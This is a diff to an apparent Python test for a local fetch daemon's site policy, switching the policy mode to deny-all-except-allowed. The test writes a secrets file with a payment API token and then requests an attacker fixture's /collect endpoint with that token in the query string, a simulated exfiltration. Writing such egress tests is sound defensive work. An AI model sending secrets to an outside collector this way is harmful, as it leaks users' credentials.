@@ -245,7 +245,7 @@ async def test_a_host_on_the_site_policy_allow_list_is_allowed(tmp_path: Path, a
     (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
     (tmp_path / "state").mkdir(mode=0o700)
     (tmp_path / "state" / "site-policy.json").write_text(json.dumps(
-        {"mode": "allow_all_except_denied", "allow": ["127.0.0.1"], "deny": []}))
+        {"mode": "deny_all_except_allowed", "allow": ["127.0.0.1"], "deny": []}))  # the list in force
     async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
         await fetch(d, str(tmp_path / "secrets.md"))
         body = await fetch(d, f"{attacker.url}/collect?k={TOKEN}")
